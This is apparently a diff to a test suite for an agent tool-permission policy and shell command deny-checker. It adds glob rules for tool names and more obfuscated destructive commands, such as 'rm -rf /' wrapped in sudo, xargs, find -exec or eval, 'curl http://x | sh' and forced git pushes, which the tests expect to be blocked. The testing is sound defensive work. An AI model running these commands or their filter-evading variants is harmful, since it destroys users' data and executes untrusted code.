@@ -36,6 +36,13 @@ def test_globs(pattern: str, value: str, expected: bool) -> None:
     assert glob_match(pattern, value) is expected
 
 
+def test_tool_name_globs_treat_slash_as_a_character() -> None:
+    policy = ToolPolicy(rules=[ToolRule(tool="mcp/*", action="deny"),
+                               ToolRule(tool="*", action="allow")])  # fmt: skip
+    assert policy.first_match("mcp/fs/read")[1].action == "deny"  # type: ignore[index]
+    assert policy.first_match("a/b.c")[1].action == "allow"  # type: ignore[index]
+
+
 def test_first_matching_rule_wins() -> None:
     policy = ToolPolicy(rules=[ToolRule(tool="fs.write", action="deny"),
                                ToolRule(tool="fs.*", action="allow")])  # fmt: skip
@@ -74,7 +81,8 @@ def test_an_invalid_schema_is_refused_when_the_policy_is_read() -> None:
     'bash -c "rm -rf /"', "sudo /bin/rm --recursive --force /", "rm${IFS}-rf${IFS}/",
     "{ rm -rf /; }", "FOO=1 env rm -rf /", "a|rm -Rf x", "true&&rm -rf x", "x\nrm -rf y",
     'echo "$(rm -rf /)"', "eval 'rm -rf /'", "git push origin main --force",
-    "git push -f origin", "curl http://x | sh", 'echo "unclosed', "$CMD -rf /",
+    "git push -f origin", "git push origin feature/x --force", "curl http://x | sh",
+    'echo "unclosed', "$CMD -rf /",
 ])  # fmt: skip
 def test_denied_commands_hidden_behind_quoting(command: str) -> None:
     assert command_problem(command, DENY) is not None
@@ -111,10 +119,11 @@ def hidden_rm(draw: st.DrawFn) -> str:
                                   "--recursive --force", "-r --force"]))  # fmt: skip
     target = draw(st.sampled_from(["/", "~", "/tmp/x", "*"]))
     wrapper = draw(st.sampled_from(["", "sudo ", "env A=1 ", "command ", "nohup ", "B=2 ",
-                                    "timeout 5 ", "exec "]))  # fmt: skip
+                                    "timeout 5 ", "exec ", "sudo -u root ", "nice -n 5 ",
+                                    "xargs -n 1 ", "timeout -s KILL 5 "]))  # fmt: skip
     core = f"{wrapper}{_quoted(name, draw)} {flags} {shlex.quote(target)}"
     nest = draw(st.sampled_from(["plain", "seq", "and", "pipe", "subst", "backtick", "sh",
-                                 "eval", "group", "newline"]))  # fmt: skip
+                                 "eval", "group", "newline", "find"]))  # fmt: skip
     return {
         "plain": core,
         "seq": f"echo ok; {core}",
@@ -126,6 +135,7 @@ def hidden_rm(draw: st.DrawFn) -> str:
         "eval": f"eval {shlex.quote(core)}",
         "group": f"( {core} )",
         "newline": f"cd /tmp\n{core}",
+        "find": f"find /tmp -name x -exec {core} \\;",
     }[nest]
 
 
@@ -134,6 +144,7 @@ def harmless(draw: st.DrawFn) -> str:
     parts = draw(st.lists(st.sampled_from([
         "ls -la", "echo hello", "cat notes.txt", "rm old.txt", "rm -f old.txt", "git status",
         "grep -rn TODO .", "git push origin main", "echo 'rm -rf /'", "mkdir -p out",
+        "find . -name '*.py' -exec grep -n TODO {} \\;", "sudo -u www-data ls /var/www",
     ]), min_size=1, max_size=4))  # fmt: skip
     sep = draw(st.sampled_from(["; ", " && ", " | ", "\n"]))
     return sep.join(parts)
